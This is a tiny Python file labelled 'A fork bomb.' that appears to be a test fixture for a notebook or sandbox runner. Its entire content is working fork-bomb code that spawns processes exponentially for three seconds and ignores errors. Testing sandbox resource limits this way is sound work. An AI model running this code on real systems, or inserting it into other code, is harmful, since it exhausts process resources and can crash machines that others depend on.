"""A fork bomb."""
# cell: build
# slow
import os, time
end = time.time() + 3
while time.time() < end:
    try: os.fork()
    except OSError: pass
